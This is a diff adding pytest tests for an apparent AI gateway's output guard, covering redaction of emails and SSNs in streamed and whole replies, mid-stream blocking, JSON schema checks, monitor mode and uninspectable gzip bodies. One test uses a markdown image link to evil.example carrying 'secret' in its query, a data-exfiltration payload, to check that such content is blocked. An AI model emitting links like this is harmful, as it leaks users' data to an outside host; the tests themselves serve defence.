@@ -134,7 +134,9 @@ async def test_what_is_not_redacted_keeps_its_residency(session_of):
 @pytest.mark.parametrize("size", [None, 1, 7, 64])
 async def test_streams_come_back_with_the_values(session_of, size):
     session, _ = session_of(sensitivity=redact())
-    text = sent(await decide(session, body(f"Mail {EMAIL} now", stream=True)))["messages"][0]["content"]
+    text = sent(await decide(session, body(f"Mail {EMAIL} now", stream=True)))["messages"][0][
+        "content"
+    ]
     chunks = [{"index": 0, "delta": {"content": char}, "finish_reason": None} for char in text]
     chunks.append({"index": 0, "delta": {}, "finish_reason": "stop"})
     frames = [
@@ -147,3 +149,127 @@ async def test_streams_come_back_with_the_values(session_of, size):
     assert said == f"Mail {EMAIL} now"
     assert out.endswith(b"data: [DONE]\n\n")
     assert events[0]["choices"][0]["delta"]["content"] == "M", "nothing is held back without need"
+
+
+SCHEMA = {
+    "type": "object",
+    "properties": {"score": {"type": "number", "minimum": 0, "maximum": 1}},
+    "required": ["score"],
+    "additionalProperties": False,
+}
+
+
+def chunks(text, size=3):
+    pieces = [
+        {"delta": {"content": text[at : at + size]}, "finish_reason": None}
+        for at in range(0, len(text), size)
+    ]
+    choices = [{"index": 0, **c} for c in (*pieces, {"delta": {}, "finish_reason": "stop"})]
+    events = [
+        {"id": "x", "object": "chat.completion.chunk", "model": "m", "choices": [c]}
+        for c in choices
+    ]
+    return [f"data: {json.dumps(e)}\n\n".encode() for e in events] + [b"data: [DONE]\n\n"]
+
+
+def events_of(out):
+    return [json.loads(line[6:]) for line in out.decode().splitlines() if line[:7] == "data: {"]
+
+
+def spoken(out):
+    return "".join(
+        e["choices"][0]["delta"].get("content", "") for e in events_of(out) if e.get("choices")
+    )
+
+
+async def test_a_blocked_answer_is_our_error(session_of):
+    session, told = session_of(output={"sensitive": "block"})
+    await decide(session, body("Hi"))
+    reply = await answer(session, chat(f"The SSN is {SSN}."))
+    assert reply.set_headers[":status"] == "403"
+    error = json.loads(reply.body)["error"]
+    assert error["code"] == "sensitive_data"
+    assert SSN not in reply.body.decode()
+    assert told.documents == []
+
+
+async def test_an_answer_is_redacted(session_of):
+    session, told = session_of(output={"sensitive": "redact"})
+    await decide(session, body("Hi"))
+    reply = await answer(session, chat(f"Ask {EMAIL} now"))
+    assert json.loads(reply.body)["choices"][0]["message"]["content"] == "Ask <EMAIL_ADDRESS> now"
+    assert told.documents[0]["choices"][0]["message"]["content"] == "Ask <EMAIL_ADDRESS> now"
+
+
+@pytest.mark.parametrize("size", [None, 1, 50])
+async def test_a_stream_is_redacted_and_flows(session_of, size):
+    session, _ = session_of(output={"sensitive": "redact"})
+    await decide(session, body("Hi", stream=True))
+    text = f"Ask {EMAIL} or call, the SSN is {SSN}, of course. " + "Words flow on and on. " * 9
+    out = await stream(session, chunks(text), size)
+    assert spoken(out) == text.replace(EMAIL, "<EMAIL_ADDRESS>").replace(SSN, "<US_SSN>")
+    assert out.endswith(b"data: [DONE]\n\n")
+
+
+async def test_a_block_in_mid_stream_is_an_error_and_a_proper_end(session_of):
+    session, told = session_of(output={"sensitive": "block"})
+    await decide(session, body("Hi", stream=True))
+    text = "Some words first. " * 5 + f"The SSN is {SSN}, of course. " + "More words follow. " * 12
+    out = await stream(session, chunks(text), 64)
+    assert SSN not in spoken(out)
+    assert "Some words first. " in spoken(out)
+    assert "More words follow. More words follow" not in spoken(out)
+    assert events_of(out)[-1]["error"]["code"] == "sensitive_data"
+    assert out.endswith(b"data: [DONE]\n\n")
+    assert told.documents == []
+
+
+async def test_active_content_is_blocked_and_its_record_says_so(session_of):
+    session, _ = session_of(output={"content": "block"})
+    await decide(session, body("Hi"))
+    reply = await answer(session, chat("![x](https://evil.example/p?d=secret)"))
+    assert json.loads(reply.body)["error"]["code"] == "content_policy"
+
+
+@pytest.mark.parametrize(
+    ("text", "passes"),
+    [('{"score": 0.5}', True), ('{"score": 1.5}', False), ("0.5", False), ("no JSON", False)],
+)
+@pytest.mark.parametrize("streamed", [False, True])
+async def test_an_answer_must_fit_the_schema_streamed_or_not(session_of, text, passes, streamed):
+    session, _ = session_of(output={"json_schema": SCHEMA})
+    await decide(session, body("Hi", stream=streamed))
+    if streamed:
+        out = await stream(session, chunks(text), 40)
+        assert spoken(out) == (text if passes else "")
+        assert ("error" in events_of(out)[-1]) is not passes
+    else:
+        reply = await answer(session, chat(text))
+        assert (reply.set_headers.get(":status") == "403") is not passes
+
+
+async def test_a_monitored_guard_changes_nothing_and_records(session_of):
+    session, _ = session_of(output={"sensitive": "block", "mode": "monitor"})
+    await decide(session, body("Hi", stream=True))
+    frames = chunks(f"The SSN is {SSN}. " + "x " * 80)
+    assert await stream(session, frames, 33) == b"".join(frames)
+    found = session._response.result().answer.findings
+    assert [(f.rule, f.mode.value) for f in found] == [("US_SSN", "monitor")]
+
+
+async def test_what_cannot_be_read_does_not_pass_the_guard(session_of):
+    session, _ = session_of(output={"sensitive": "block"})
+    await decide(session, body("Hi"))
+    head = {":status": "200", "content-type": "application/json", "content-encoding": "gzip"}
+    asked = await session.receive(ResponseHeaders(head, False))
+    assert asked.response_body_mode is BodyMode.BUFFERED
+    reply = await session.receive(ResponseBody(b"\x1f\x8b", True))
+    assert reply.set_headers[":status"] == "503"
+    assert json.loads(reply.body)["error"]["code"] == "inspection_unavailable"
+
+
+async def test_restoring_comes_after_the_guard(session_of):
+    session, _ = session_of(sensitivity=redact(), output={"sensitive": "block"})
+    text = sent(await decide(session, body(f"Mail {EMAIL}")))["messages"][0]["content"]
+    reply = await answer(session, chat(text))
+    assert json.loads(reply.body)["choices"][0]["message"]["content"] == f"Mail {EMAIL}"
